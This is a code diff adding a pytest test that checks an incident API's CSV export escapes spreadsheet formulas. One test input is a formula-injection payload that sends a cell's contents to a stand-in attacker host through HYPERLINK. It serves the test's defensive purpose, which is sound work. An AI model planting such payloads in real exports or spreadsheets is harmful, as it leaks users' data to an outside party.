@@ -206,3 +206,26 @@ def test_stats_reflect_each_write_at_once(http: httpx.Client) -> None:
     linked = http.post(f"/v1/incidents/{b}/duplicate", json={"of": a, "actor": "王芳"})
     assert linked.status_code == 200, linked.text
     assert total()["duplicates"] == before["duplicates"] + 1
+
+
+@pytest.mark.parametrize(
+    "description",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_csv_escapes_formulas(http: httpx.Client, description: str) -> None:
+    """Issue 22 B: a description a spreadsheet would run comes out of export.csv as text."""
+    made = http.post("/v1/incidents", json=incident(description=description))
+    assert made.status_code == 201, made.text
+    number = made.json()["id"]
+    text = http.get("/v1/incidents/export.csv").content.decode("utf-8-sig")
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
+    cell = rows[str(number)]["description"]
+    assert cell == "'" + description.strip()  # intake trims a leading tab or CR
+    assert rows[str(number)]["lon"] == "121.3925"  # numbers untouched
